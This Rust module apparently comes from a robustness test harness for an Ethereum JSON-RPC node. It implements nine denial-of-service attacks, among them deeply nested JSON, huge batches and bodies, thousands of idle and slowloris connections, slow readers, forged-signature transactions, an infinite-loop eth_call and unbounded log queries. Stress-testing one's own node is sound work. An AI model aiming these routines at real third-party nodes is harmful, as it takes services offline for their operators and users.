//! What is done to the node: each runs in several threads, again and again.

use super::client::post;
use serde_json::{Value, json};
use std::{
    io::{self, Write},
    net::{Shutdown, TcpStream},
    sync::atomic::{AtomicBool, Ordering},
    thread,
    time::Duration,
};

type Attack = fn(&str, &AtomicBool) -> io::Result<()>;

/// Every attack by its name.
pub(super) const ATTACKS: [(&str, Attack); 9] = [
    ("JSON nested 100,000 deep", nested),
    ("batches of 10,000", batches),
    ("bodies of 15 MiB", bodies),
    ("10,000 idle connections", idle),
    ("bodies that come byte by byte", slow_writers),
    ("answers that nobody reads", slow_readers),
    ("forged signatures", forged),
    ("endless eth_call", calls),
    ("all logs", logs),
];

fn call(id: usize, method: &str, params: &Value) -> Value {
    json!({ "jsonrpc": "2.0", "id": id, "method": method, "params": params })
}

/// Sends a body and reads the answer to its end.
fn send(address: &str, body: &str) -> io::Result<()> {
    let mut stream = TcpStream::connect(address)?;
    stream.set_read_timeout(Some(Duration::from_secs(60)))?;
    stream.write_all(post(address, body).as_bytes())?;
    stream.shutdown(Shutdown::Write)?;
    io::copy(&mut stream, &mut io::sink())?;
    Ok(())
}

fn nested(address: &str, _: &AtomicBool) -> io::Result<()> {
    let deep = format!("{}{}", "[".repeat(100_000), "]".repeat(100_000));
    let method = r#"{"jsonrpc":"2.0","id":1,"method":"eth_getBalance","params":"#;
    send(address, &format!("{method}{deep}}}"))
}

fn batches(address: &str, _: &AtomicBool) -> io::Result<()> {
    let calls = (0..10_000).map(|id| call(id, "eth_chainId", &json!([])));
    send(address, &calls.collect::<Value>().to_string())?;
    let calls = (0..1_000).map(|id| call(id, "eth_getBlockByNumber", &json!(["latest", true])));
    send(address, &calls.collect::<Value>().to_string())
}

fn bodies(address: &str, _: &AtomicBool) -> io::Result<()> {
    send(address, &format!("[{}0]", "0,".repeat(7 << 20)))
}

/// Of each thread, so many that there are 10,000 by default.
fn idle(address: &str, ending: &AtomicBool) -> io::Result<()> {
    let mut open = Vec::new();
    while open.len() < 1_250 && !ending.load(Ordering::Relaxed) {
        open.push(TcpStream::connect(address)?);
    }
    wait(ending, Duration::from_secs(2));
    Ok(())
}

fn slow_writers(address: &str, ending: &AtomicBool) -> io::Result<()> {
    let mut open = Vec::new();
    for _ in 0..200 {
        let mut stream = TcpStream::connect(address)?;
        let head = post(address, &" ".repeat(100_000));
        stream.write_all(&head.as_bytes()[..50_000])?;
        open.push(stream);
    }
    for _ in 0..20 {
        open.iter_mut().for_each(|stream| drop(stream.write_all(b" ")));
        wait(ending, Duration::from_millis(100));
    }
    Ok(())
}

fn slow_readers(address: &str, ending: &AtomicBool) -> io::Result<()> {
    let calls = (0..500).map(|id| call(id, "eth_getBlockByNumber", &json!(["latest", true])));
    let request = post(address, &calls.collect::<Value>().to_string());
    let mut open = Vec::new();
    for _ in 0..50 {
        let mut stream = TcpStream::connect(address)?;
        stream.set_write_timeout(Some(Duration::from_millis(10)))?;
        while stream.write_all(request.as_bytes()).is_ok() {}
        open.push(stream);
    }
    wait(ending, Duration::from_secs(1));
    Ok(())
}

/// Signatures of whoever they may be of: each must be recovered to see it.
fn forged(address: &str, _: &AtomicBool) -> io::Result<()> {
    // Type 2 of chain 901: nonce, tip, fee, gas, recipient, value, no data, no list, parity.
    let fields = "02f86d820385808477359400852e90edd0008252089400000000000000000000000000000000000000\
                  010180c080";
    let raw = |index: usize| json!([format!("0x{fields}a05{index:063x}a02{index:063x}")]);
    let calls = (0..500).map(|id| call(id, "eth_sendRawTransaction", &raw(id)));
    send(address, &calls.collect::<Value>().to_string())
}

fn calls(address: &str, _: &AtomicBool) -> io::Result<()> {
    let to = "0x00000000000000000000000000000000000c0de0";
    let params = json!([{ "to": to }, "latest", { to: { "code": "0x5b5f56" } }]);
    send(address, &call(1, "eth_call", &params).to_string())?;
    send(address, &call(1, "eth_estimateGas", &params).to_string())
}

fn logs(address: &str, _: &AtomicBool) -> io::Result<()> {
    let all = json!([{ "fromBlock": "earliest", "toBlock": "latest" }]);
    let calls = (0..100).map(|id| call(id, "eth_getLogs", &all));
    send(address, &calls.collect::<Value>().to_string())
}

fn wait(ending: &AtomicBool, time: Duration) {
    if !ending.load(Ordering::Relaxed) {
        thread::park_timeout(time);
    }
}
